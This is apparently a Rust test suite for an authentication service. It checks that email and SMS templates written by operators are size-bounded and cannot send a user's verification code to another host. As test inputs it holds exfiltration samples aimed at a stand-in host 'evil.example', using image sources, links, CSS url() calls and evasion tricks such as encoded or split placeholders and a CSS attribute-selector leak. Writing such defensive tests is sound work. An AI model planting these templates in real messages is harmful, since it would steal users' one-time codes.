//! What operators write into messages: what it may cost, and where it may lead.

use latchkey_transfer::{Record, TemplateRecord};
use serde_json::json;

use crate::harness::{Answer, Made, PASSWORD, TestApp};
use crate::{forged_keys, moving, on_every_store};

on_every_store!(
    sec_129_a_hostile_template_costs_no_more_than_its_length,
    sec_116_the_messages_of_an_application_are_bounded_together,
    sec_133_no_message_hands_its_code_to_another_host,
    sec_133_no_import_brings_a_message_that_hands_its_code_on,
);

async fn word(app: &TestApp, shop: &Made, id: &str, html: &str) -> Answer {
    let words = json!({"appId": shop.id, "_id": id, "subject": "Hello", "htmlTemplate": html});
    app.admin("updateEmailTemplate", words).await
}

async fn sec_129_a_hostile_template_costs_no_more_than_its_length(app: TestApp) {
    let shop = app.app("Shop").await;
    for (html, rule) in [
        (format!("%CODE%<table>{}", "<p>x".repeat(7_000)), "more than 6000 tags"),
        (format!("%CODE%<a {}>", "b ".repeat(100)), "more than 50 attributes"),
        ("%CODE% ".repeat(200), "more than 100 placeholders"),
        (format!("%CODE%{}", "<div>".repeat(60)), "nested too deeply"),
        (format!("%CODE%{}", "& ".repeat(60_000)), "more than 10000 of the characters & and <"),
    ] {
        let answer = word(&app, &shop, "signUp-EN", &html).await;
        assert_eq!(answer.error(), (400, 602));
        assert!(answer.text().contains(rule), "{}", answer.text());
    }
    for (number, hostile) in
        ["<".repeat(9_999) + ">", "a < b ".repeat(9_999), "&".repeat(9_999)].iter().enumerate()
    {
        assert_eq!(word(&app, &shop, "signUp-EN", &format!("%CODE%{hostile}")).await.status, 200);
        for other in 0..3 {
            let handle = format!("u{number}{other}@example.com");
            let body = json!({"handle": handle, "password": PASSWORD});
            assert_eq!(app.as_app(&shop, "signup", body).await.text(), "true");
        }
        let mail = app.mail("Hello").await;
        assert!(mail.text.chars().take(6).all(|c| c.is_ascii_digit()), "{:.40}", mail.text);
    }
}

async fn sec_116_the_messages_of_an_application_are_bounded_together(app: TestApp) {
    let shop = app.app("Shop").await;
    let locales: Vec<String> = ["EN", "FR", "DE", "ES", "IT", "NL", "PT", "PL"].map(str::to_owned).into();
    let secret = json!({"appId": shop.id, "locales": locales});
    assert_eq!(app.admin("addRemoveAppLocale", secret).await.status, 200);
    let long = format!("%CODE%{}", "x".repeat(127 * 1024));
    let ids = locales.iter().flat_map(|locale| {
        ["signUp", "signUpLink", "resetPassword", "invite", "sms"].map(|name| format!("{name}-{locale}"))
    });
    let mut taken = Vec::new();
    for id in ids {
        let answer = word(&app, &shop, &id, &long).await;
        if answer.status != 200 {
            assert_eq!(answer.error(), (400, 602));
            assert!(answer.text().contains("longer than 4194304 bytes"), "{}", answer.text());
            break;
        }
        taken.push(id);
    }
    assert_eq!(taken.len(), 32);
    // What is there may be changed, and others may be once there is room.
    assert_eq!(word(&app, &shop, &taken[0], "<p>%CODE%</p>").await.status, 200);
    assert_eq!(word(&app, &shop, "sms-PL", "<p>%CODE%</p>").await.status, 200);
    assert_eq!(word(&app, &shop, "sms-PL", &long).await.status, 200);
    assert_eq!(word(&app, &shop, "invite-PL", &long).await.error(), (400, 602));
}

async fn sec_133_no_message_hands_its_code_to_another_host(app: TestApp) {
    let shop = app.app("Shop").await;
    let picture = "<p>%CODE%</p><img src=\"https://evil.example/%CODE%.png\">";
    for id in ["signUp-EN", "signUpLink-EN", "resetPassword-EN", "invite-EN", "signUpSuccess-EN", "sms-EN"] {
        let answer = word(&app, &shop, id, picture).await;
        assert_eq!(answer.error(), (400, 602), "{id}");
        assert!(answer.text().contains("not in src"), "{}", answer.text());
    }
    for wrong in [
        "<p>%CODE%</p><a href=\"https://evil.example/?u=%LINK%\">x</a>",
        "<p>%CODE%</p><style>p { background: url(//evil.example/%CODE%) }</style>",
        "<p>https://evil.example/%CODE%</p>",
    ] {
        assert_eq!(word(&app, &shop, "resetPassword-EN", wrong).await.error(), (400, 602), "{wrong}");
    }
    // Placeholders written as character references or split by tags do not count, nor do those in the subject.
    for (id, subject, html) in [
        ("resetPassword-EN", "Your code %CODE%", "<p>https://evil.example/&#37;CODE&#37;</p>"),
        ("resetPassword-EN", "Hello", "<p>%CO<b></b>DE%</p>"),
        ("sms-EN", "Hello", "https://evil.example/&#37;CODE&#37;"),
        ("resetPassword-EN", "Hello", "<p>%APP_NAME%/%CODE%</p>"),
        (
            "resetPassword-EN",
            "Hello",
            "<style>b[title^='1'] { background: url(//evil.example/1) }</style><b title='%CODE%'>%CODE%</b>",
        ),
    ] {
        let words = json!({"appId": shop.id, "_id": id, "subject": subject, "htmlTemplate": html});
        let answer = app.admin("updateEmailTemplate", words).await;
        assert_eq!(answer.error(), (400, 602), "{html}");
    }
    let own = format!(
        "<p>%CODE%</p><a href=\"com.example.shop://reset?code=%CODE%\">Open the app</a><a href=\"{}/x?code=%CODE%\">x</a>",
        app.service.public_url(),
    );
    assert_eq!(word(&app, &shop, "resetPassword-EN", &own).await.status, 200);
}

async fn sec_133_no_import_brings_a_message_that_hands_its_code_on(app: TestApp) {
    const HARMLESS: &str = "<p>Mine: %CODE%</p>";
    let picture = "<p>Mine: %CODE%</p><img src=https://evil.example/%CODE%.png>";
    let shop = app.app("Shop").await;
    assert_eq!(word(&app, &shop, "resetPassword-EN", HARMLESS).await.status, 200);
    let messages = async |app_id: &str| app.admin_get(&format!("emailTemplates?appId={app_id}")).await.text();

    let zip = app.admin_get(&format!("export?appId={}", shop.id)).await.body;
    let zip = moving::edited(&zip, "email-template-collection.csv", |text| text.replace(HARMLESS, picture));
    let answer = moving::upload_as(&app, "Zip", &zip).await;
    assert!(answer.text().contains("the message resetPassword in EN: "), "{}", answer.text());
    assert!(!messages(&answer.field("appId")).await.contains("Mine"));

    let (mut head, members) = forged_keys::archive_of(&app, &shop).await;
    let message = |html: &str| TemplateRecord {
        name: "resetPassword".to_owned(),
        locale: "EN".to_owned(),
        subject: "Hello".to_owned(),
        reply_to: String::new(),
        html: html.to_owned(),
        link_text: String::new(),
        created_at: head.app.created_at,
        updated_at: head.app.created_at,
    };
    let records = [Record::Template(message(picture)), Record::Template(message(HARMLESS))];
    let checked = format!("{:?}", app.service.check_records(&head.app, &records).await.unwrap());
    assert_eq!(checked.matches("the built-in words are used").count(), 1, "{checked}");
    for (html, is_kept) in [(picture, false), (HARMLESS, true)] {
        head.templates = vec![message(html)];
        forged_keys::remove(&app, &shop).await;
        forged_keys::import(&app, head.clone(), members.clone()).await.unwrap();
        assert_eq!(messages(&shop.id).await.contains("Mine"), is_kept, "{html}");
    }
}
